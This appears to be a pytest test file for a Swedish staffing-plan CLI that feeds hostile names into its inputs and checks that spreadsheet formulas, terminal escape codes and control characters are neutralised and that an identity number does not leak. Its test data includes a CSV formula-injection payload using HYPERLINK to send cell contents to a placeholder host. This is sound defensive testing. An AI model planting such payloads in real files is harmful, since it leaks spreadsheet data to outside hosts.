"""Names that come from outside reach neither a spreadsheet as a formula nor a terminal as a command."""

import csv
import gzip
from datetime import date
from pathlib import Path

import pytest

from tests.cli.small import TABLES, run, write_small
from tests.identity_numbers import identity_number

FORMULA, ORDER = '=HYPERLINK("http://example.invalid/?"&A2,"Köket")', "Städ\u202e AB\x9b2J\nrad två"


@pytest.mark.parametrize("dialect", ["plain", "swedish"])
def test_a_plan_of_hostile_names_runs_nothing_and_is_verified(
    dialect: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    quoted = {"Exempelköket": FORMULA, "Exempelstäd AB": ORDER}
    employers = TABLES["employers.csv"]
    for name, text in quoted.items():
        employers = employers.replace(name, '"{}"'.format(text.replace('"', '""')))
    settings = TABLES["scenario.toml"].replace("Exempelköping", "\\u001b]0;x\\u0007Exempel\\nköping")
    folder, out = write_small(tmp_path / "week", employers=employers), tmp_path / "plan"
    (folder / "scenario.toml").write_text(settings.lstrip(), encoding="utf-8")
    assert run(["plan", str(folder), "--out", str(out), "--dialect", dialect]) == 0
    assert run(["check", str(folder)]) == 0
    assert run(["verify", str(out)]) == 0
    told = capsys.readouterr()
    assert (told.out + told.err).replace("\n", "").isprintable()
    assert "rad två" in told.out
    for path in [*out.glob("*.csv"), *out.glob("inputs/*.csv"), out / "candidates.csv.gz"]:
        raw = path.read_bytes()
        text = (gzip.decompress(raw) if path.suffix == ".gz" else raw).decode("utf-8-sig")
        assert text.replace("\n", "").isprintable(), path.name
        separator = ";" if dialect == "swedish" and path.parent == out and path.suffix == ".csv" else ","
        cells = [cell for row in csv.reader(text.splitlines(), delimiter=separator) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))], path.name
        assert path.name not in {"assignments.csv", "employers.csv"} or f"'{FORMULA}" in cells


def test_posts_of_hostile_names_run_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tasks, out = tmp_path / "tasks.csv", tmp_path / "posts.csv"
    tasks.write_text(
        f'unit,zone,workplace,task,hours_per_week,done_today_by\nE1,north,@SUM(1),"=1+1",20,"{ORDER}"\n'
        "E1,north,,kratta,20,\n",
        encoding="utf-8",
    )
    assert run(["build-slots", str(tasks), "--out", str(out)]) == 0
    told = capsys.readouterr().out
    assert told.replace("\n", "").isprintable()
    rows = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
    assert rows[0]["workplace"] == "'@SUM(1)"
    assert rows[0]["tasks"].startswith("'=1+1")


def test_a_folder_called_by_an_identity_number_is_not_named_in_the_plan(tmp_path: Path) -> None:

    number = identity_number(date(1985, 7, 14))
    folder, out = write_small(tmp_path / f"week {number}"), tmp_path / "plan"
    assert run(["plan", str(folder), "--out", str(out)]) == 0
    assert not [path for path in out.rglob("*") if path.is_file() and number.encode() in path.read_bytes()]
